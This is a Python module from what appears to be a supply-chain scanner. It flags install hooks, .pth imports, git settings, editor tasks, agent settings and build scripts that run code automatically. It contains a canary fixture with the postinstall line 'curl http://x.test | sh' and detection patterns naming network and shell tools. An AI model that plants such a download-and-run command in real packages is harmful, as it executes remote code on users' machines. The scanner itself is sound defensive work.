"""What runs by itself when a package is installed, a tree is opened, or an interpreter starts in it.

Each kind of file has its reader below, found by name in `READERS`. Running something at install is worth a look
(medium); running a program, reaching the network or unpacking code there is what attacks look like (high).
"""
# ruff: noqa: E501  a table is read one rule a line

import ast
import json
import re
import tomllib
from collections.abc import Callable, Iterator
from fnmatch import fnmatchcase

from periphery.mcnamara.findings import Hit, Level
from periphery.mcnamara.inventory import File
from periphery.mcnamara.scanner import Canary

CANARY = Canary("package.json", '{"scripts": {"postinstall": "curl http://x.test | sh"}}\n', "hook.npm-script")
LOOK = "Read what it runs before you install; install with scripts off where you can."
DANGEROUS = re.compile(
    r"\b(?:curl|wget|nc|ncat|powershell|pwsh|certutil|bitsadmin)\b|base64|https?://|/dev/tcp|\beval\b|node\s+-e|python3?\s+-c"
    r"|\b(?:ba)?sh\s+-c|child_process|\bchmod\s+\+x|\bperl\s+-e|>\s*/dev/null\s+2>&1\s*&"
)
CALLS = {
    "os.system": "runs a command", "os.popen": "runs a command", "os.execv": "runs a program", "os.execvp": "runs a program",
    "os.spawnl": "runs a program", "os.fork": "forks", "subprocess.run": "runs a program", "subprocess.call": "runs a program",
    "subprocess.check_call": "runs a program", "subprocess.check_output": "runs a program", "subprocess.Popen": "runs a program",
    "subprocess.getoutput": "runs a command", "eval": "runs text as code", "exec": "runs text as code",
    "urllib.request.urlopen": "reaches the network", "urlopen": "reaches the network", "urllib.request.urlretrieve": "reaches the network",
    "requests.get": "reaches the network", "requests.post": "reaches the network", "httpx.get": "reaches the network",
    "httpx.post": "reaches the network", "socket.socket": "reaches the network", "socket.create_connection": "reaches the network",
    "http.client.HTTPSConnection": "reaches the network", "http.client.HTTPConnection": "reaches the network",
    "ctypes.CDLL": "loads machine code", "marshal.loads": "loads code", "pickle.loads": "loads code",
    "importlib.import_module": "imports by name", "__import__": "imports by name",
}  # fmt: skip
GRAVE = {"reaches the network", "runs text as code", "loads code", "runs a command", "forks"}
HARMLESS_PTH = re.compile(
    r"distutils-precedence\.pth$|-nspkg\.pth$|^__editable__|^_virtualenv\.pth$|^a1_coverage\.pth$"
)

Reader = Callable[[File, str], Iterator[Hit]]


def _hit(file: File, rule: str, severity: Level, line: int, message: str, fix: str = LOOK, cwe: str = "CWE-506") -> Hit:
    return Hit(f"hook.{rule}", severity, file.path, line, message, fix, cwe)


def _line_of(text: str, part: str) -> int:
    at = text.find(part)
    return text.count("\n", 0, at) + 1 if at >= 0 else 1


# ── Python ───────────────────────────────────────────────────────────────────────────────────────────────────────


def dotted(node: ast.expr) -> str:
    """`a.b.c` of a name or attribute, else nothing."""
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        above = dotted(node.value)
        return f"{above}.{node.attr}" if above else ""
    return ""


def _at_import(body: list[ast.stmt]) -> Iterator[ast.AST]:
    """Every node that is evaluated when the module is imported: not what stands within functions."""
    for statement in body:
        if isinstance(statement, ast.FunctionDef | ast.AsyncFunctionDef):
            yield from statement.decorator_list
        elif isinstance(statement, ast.ClassDef):
            yield from _at_import(statement.body)
        elif isinstance(statement, ast.If) and _is_main(statement.test):
            continue
        else:
            waiting: list[ast.AST] = [statement]
            while waiting:
                node = waiting.pop()
                yield node
                if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef | ast.Lambda):
                    waiting.extend(ast.iter_child_nodes(node))


def _is_main(test: ast.expr) -> bool:
    return isinstance(test, ast.Compare) and dotted(test.left) == "__name__"


def _imported(tree: ast.Module) -> dict[str, str]:
    """What local names stand for."""
    names: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names |= {
                each.asname or each.name.split(".")[0]: each.name if each.asname else each.name.split(".")[0]
                for each in node.names
            }
        elif isinstance(node, ast.ImportFrom) and node.module:
            names |= {each.asname or each.name: f"{node.module}.{each.name}" for each in node.names}
    return names


def _calls(nodes: Iterator[ast.AST], names: dict[str, str]) -> Iterator[tuple[int, str, str]]:
    for node in nodes:
        if isinstance(node, ast.Call):
            first, _, rest = dotted(node.func).partition(".")
            full = names.get(first, first) + (f".{rest}" if rest else "")
            if full in CALLS:
                yield node.lineno, full, CALLS[full]


def _python_at_import(rule: str, when: str) -> Reader:
    def read(file: File, text: str) -> Iterator[Hit]:
        tree = ast.parse(text)
        for line, name, what in _calls(_at_import(tree.body), _imported(tree)):
            if what == "imports by name":
                continue
            yield _hit(file, rule, "high" if what in GRAVE else "medium", line, f"`{name}` {what} {when}.")

    return read


def _setup_py(file: File, text: str) -> Iterator[Hit]:
    yield from _python_at_import("setup-py", "whenever the package is built or its metadata is read")(file, text)
    tree = ast.parse(text)
    names = _imported(tree)
    for node in ast.walk(tree):
        if isinstance(node, ast.ClassDef):
            bases = {dotted(each).split(".")[-1] for each in node.bases}
            command = bases & {
                "install",
                "develop",
                "egg_info",
                "build_py",
                "build",
                "build_ext",
                "bdist_egg",
                "sdist",
                "bdist_wheel",
            }
            for line, name, what in _calls(ast.walk(node), names) if command else ():
                if what != "imports by name":
                    yield _hit(
                        file,
                        "setup-py",
                        "high" if what in GRAVE else "medium",
                        line,
                        f"`{name}` {what} when the package is installed (a command of setup.py).",
                    )
        elif isinstance(node, ast.keyword) and node.arg == "cmdclass":
            yield _hit(
                file,
                "setup-py-cmdclass",
                "low",
                node.value.lineno,
                "Replaces a command of the installer with its own code.",
            )


def _pth(file: File, text: str) -> Iterator[Hit]:
    for number, line in enumerate(text.splitlines(), 1):
        if re.match(r"import[ \t]", line):
            known = HARMLESS_PTH.search(file.name) is not None and not re.search(
                r"base64|exec\s*\(|urlopen|socket", line
            )
            yield _hit(
                file,
                "pth",
                "low"
                if known
                else "critical"
                if re.search(r"exec|base64|urlopen|socket|subprocess|os\.system", line)
                else "high",
                number,
                "A line of a .pth file that begins with `import` is run at each start of Python.",
            )


def _pyproject(file: File, text: str) -> Iterator[Hit]:
    try:
        build = tomllib.loads(text).get("build-system", {})
    except tomllib.TOMLDecodeError:
        return
    if isinstance(build, dict) and build.get("backend-path"):
        yield _hit(
            file,
            "build-backend",
            "medium",
            _line_of(text, "backend-path"),
            "The package is built by code of its own tree: installing from source runs it.",
        )
    for each in build.get("requires", []) if isinstance(build, dict) else []:
        if isinstance(each, str) and re.search(r"@\s*(?:git\+|https?:)", each):
            yield _hit(
                file,
                "build-requires-url",
                "medium",
                _line_of(text, each),
                "Building fetches and runs code from an address that no index vouches for.",
                "Pin a released version by hash.",
                "CWE-829",
            )


# ── JavaScript ───────────────────────────────────────────────────────────────────────────────────────────────────


def _package_json(file: File, text: str) -> Iterator[Hit]:
    package = _json_object(text)
    scripts = package.get("scripts")
    for name in ("preinstall", "install", "postinstall", "preprepare", "prepare", "preuninstall", "postuninstall"):
        command = scripts.get(name) if isinstance(scripts, dict) else None
        if not isinstance(command, str):
            continue
        severity: Level = (
            "high"
            if DANGEROUS.search(command)
            else "low"
            if "prepare" in name or command == "node-gyp rebuild"
            else "medium"
        )
        yield _hit(
            file,
            "npm-script",
            severity,
            _line_of(text, f'"{name}"'),
            f"The script `{name}` runs when the package is installed.",
        )
    for group in ("dependencies", "devDependencies", "optionalDependencies", "peerDependencies"):
        for name, wanted in _items(package.get(group)):
            if re.match(r"(?:git(?:\+\w+)?|https?|file):|[\w-]+/[\w.-]+(?:#|$)", wanted) and not wanted.startswith(
                ("file:.", "http://localhost")
            ):
                severity = "high" if wanted.startswith("http:") else "medium"
                yield _hit(
                    file,
                    "npm-dependency-url",
                    severity,
                    _line_of(text, f'"{name}"'),
                    f"`{name}` comes from an address that no index vouches for, and may change under the same name.",
                    "Depend on a released version.",
                    "CWE-829",
                )


def _binding_gyp(file: File, text: str) -> Iterator[Hit]:
    for number, line in enumerate(text.splitlines(), 1):
        if "<!" in line:
            severity: Level = "high" if DANGEROUS.search(line) else "low"
            yield _hit(
                file,
                "binding-gyp",
                severity,
                number,
                "A command in binding.gyp runs when the package is installed, without any script in package.json.",
            )


def _json_object(text: str) -> dict[str, object]:
    try:
        found = json.loads(re.sub(r"^\s*//[^\n]*$", "", text, flags=re.MULTILINE))
    except ValueError:
        return {}
    return found if isinstance(found, dict) else {}


def _items(table: object) -> list[tuple[str, str]]:
    return [(name, value) for name, value in table.items() if isinstance(value, str)] if isinstance(table, dict) else []


# ── package indexes ──────────────────────────────────────────────────────────────────────────────────────────────


def _index_options(file: File, text: str) -> Iterator[Hit]:
    """requirements.txt, pip.conf, .npmrc: where packages come from."""
    for number, line in enumerate(text.splitlines(), 1):
        if line.lstrip().startswith(("#", ";")):
            continue
        if re.search(r"extra[-_]index[-_]url", line):
            yield _hit(
                file,
                "extra-index",
                "medium",
                number,
                "Two indexes are asked for every name: whoever registers an internal name at the public one is installed.",
                "Use one index that proxies the other, or pin by hash.",
                "CWE-427",
            )
        if re.search(r"(?:index[-_]url|find[-_]links|registry)\s*[=: ]\s*http://(?!localhost|127\.)", line):
            yield _hit(
                file,
                "plain-index",
                "high",
                number,
                "Packages come over a connection that anyone on the way can change.",
                "Use https.",
                "CWE-319",
            )
        if re.search(r"trusted[-_]host|strict-ssl\s*=\s*false", line):
            yield _hit(
                file,
                "trusted-host",
                "medium",
                number,
                "The index's certificate is not checked.",
                "Remove it, or add your own authority.",
                "CWE-295",
            )
        if re.search(r"(?:^|@)\s*(?:-e\s+)?(?:git\+(?:http|git):|http://)", line) and "registry" not in line:
            yield _hit(
                file,
                "plain-requirement",
                "high",
                number,
                "The package comes over a connection that anyone on the way can change.",
                "Use https and pin a commit.",
                "CWE-319",
            )
        if re.search(r"git\+(?:https|ssh)://[^@\s]+(?:@(?![0-9a-f]{40})\S+)?\s*(?:#|$)", line):
            yield _hit(
                file,
                "moving-requirement",
                "low",
                number,
                "A git requirement without a commit: it is another one tomorrow.",
                "Pin the full commit.",
                "CWE-829",
            )


# ── git, editors, agents, other builds ───────────────────────────────────────────────────────────────────────────


def _git_config(file: File, text: str) -> Iterator[Hit]:
    for number, line in enumerate(text.splitlines(), 1):
        key = re.match(
            r"\s*(fsmonitor|sshcommand|pager|editor|askpass|hookspath|gitproxy|textconv|command|clean|smudge|process|helper|program|external|uploadpack|receivepack|\w{1,40}\s*=\s*\"?!)",
            line,
            re.IGNORECASE,
        )
        value = line.partition("=")[2].strip()
        if key and value and value not in ("true", "false"):
            yield _hit(
                file,
                "git-config",
                "critical",
                number,
                "Git runs what this setting names, on as little as `git status`.",
                "Delete it; never run git in a directory that came from elsewhere.",
            )


def _git_hook(file: File, text: str) -> Iterator[Hit]:
    if not file.name.endswith(".sample"):
        yield _hit(
            file,
            "git-hook",
            "high",
            1,
            "A git hook travels with the tree: git runs it.",
            "Delete it, unless you put it there.",
        )


def _gitmodules(file: File, text: str) -> Iterator[Hit]:
    for number, line in enumerate(text.splitlines(), 1):
        key, _, value = (each.strip() for each in line.partition("="))
        if (key == "url" and value.startswith(("-", "ext::", "file:"))) or (key == "update" and value.startswith("!")):
            yield _hit(
                file,
                "gitmodules",
                "critical",
                number,
                "A submodule that runs a command when it is fetched.",
                "Do not clone with submodules.",
            )
        elif key == "path" and (".." in value.split("/") or value.startswith("/")):
            yield _hit(
                file,
                "gitmodules",
                "critical",
                number,
                "A submodule that lands outside of the tree.",
                "Do not clone with submodules.",
                "CWE-22",
            )


def _editor_tasks(file: File, text: str) -> Iterator[Hit]:
    if re.search(r'"runOn"\s*:\s*"folderOpen"', text):
        yield _hit(
            file,
            "editor-task",
            "high",
            _line_of(text, '"runOn"'),
            "The editor runs a command as soon as the folder is opened.",
            "Open it in restricted mode.",
        )


def _devcontainer(file: File, text: str) -> Iterator[Hit]:
    for match in re.finditer(r'"(initializeCommand)"\s*:', text):
        yield _hit(
            file,
            "devcontainer",
            "high",
            text.count("\n", 0, match.start()) + 1,
            "A command that runs on the host, not in the container, when the folder is opened.",
            "Read it first.",
        )


def _agent_settings(file: File, text: str) -> Iterator[Hit]:
    for match in re.finditer(r'"(hooks|mcpServers|apiKeyHelper|statusLine)"\s*:\s*[{\["]', text):
        yield _hit(
            file,
            "agent-settings",
            "medium",
            text.count("\n", 0, match.start()) + 1,
            f"`{match.group(1)}`: an agent that works in this tree runs what is named here.",
            "Read it before an agent works here.",
        )


def _envrc(file: File, text: str) -> Iterator[Hit]:
    for number, line in enumerate(text.splitlines(), 1):
        if DANGEROUS.search(line) and not line.lstrip().startswith("#"):
            yield _hit(file, "envrc", "high", number, "A shell that enters the directory runs this.")
            return


def _build_rs(file: File, text: str) -> Iterator[Hit]:
    for match in re.finditer(r"\bCommand::new\(|\breqwest::|\bTcpStream::connect|\bureq::", text):
        grave = "Command" not in match.group()
        yield _hit(
            file,
            "build-rs",
            "high" if grave else "medium",
            text.count("\n", 0, match.start()) + 1,
            "Runs a program or reaches the network when the crate is built.",
        )


def _extconf(file: File, text: str) -> Iterator[Hit]:
    for match in re.finditer(r"\bsystem\s*[( ]|`[^`\n]{1,200}`|\bNet::HTTP\b|\bURI\.open|\beval\s*\(", text):
        grave = re.match(r"Net|URI|eval", match.group()) is not None
        yield _hit(
            file,
            "extconf",
            "high" if grave else "medium",
            text.count("\n", 0, match.start()) + 1,
            "Runs a program or reaches the network when the gem is installed.",
        )


def _composer(file: File, text: str) -> Iterator[Hit]:
    scripts = _json_object(text).get("scripts")
    if not isinstance(scripts, dict):
        return
    for name in scripts:
        if re.match(r"(?:pre|post)-(?:install|update|autoload-dump|root-package-install|create-project)", name):
            severity: Level = "high" if DANGEROUS.search(json.dumps(scripts[name])) else "low"
            yield _hit(
                file,
                "composer-script",
                severity,
                _line_of(text, f'"{name}"'),
                f"The script `{name}` runs when packages are installed.",
            )


AT_START = "at each start of Python, unasked"
READERS: tuple[tuple[str, Reader], ...] = (
    ("*/setup.py", _setup_py),
    ("*.pth", _pth),
    ("*/conftest.py", _python_at_import("conftest", "as soon as tests are collected")),
    ("*/sitecustomize.py", _python_at_import("sitecustomize", AT_START)),
    ("*/usercustomize.py", _python_at_import("sitecustomize", AT_START)),
    ("*/__init__.py", _python_at_import("import-time", "when the package is imported")),
    ("*/pyproject.toml", _pyproject),
    ("*/package.json", _package_json),
    ("*/binding.gyp", _binding_gyp),
    ("*/.npmrc", _index_options),
    ("*/pip.conf", _index_options),
    ("*/*requirements*.txt", _index_options),
    ("*/requirements/*.txt", _index_options),
    ("*/.git/config", _git_config),
    ("*/.gitconfig", _git_config),
    ("*/.git/hooks/*", _git_hook),
    ("*/.gitmodules", _gitmodules),
    ("*/.vscode/tasks.json", _editor_tasks),
    ("*/*devcontainer.json", _devcontainer),
    ("*/.claude/settings*.json", _agent_settings),
    ("*/.cursor/mcp.json", _agent_settings),
    ("*/.mcp.json", _agent_settings),
    ("*/.envrc", _envrc),
    ("*/build.rs", _build_rs),
    ("*/extconf.rb", _extconf),
    ("*/composer.json", _composer),
)


def wants(file: File) -> bool:
    return any(fnmatchcase(f"/{file.path}", pattern) for pattern, _ in READERS)


def inspect(file: File, text: str) -> Iterator[Hit]:
    """What every reader says whose name fits."""
    for pattern, reader in READERS:
        if fnmatchcase(f"/{file.path}", pattern):
            yield from reader(file, text)
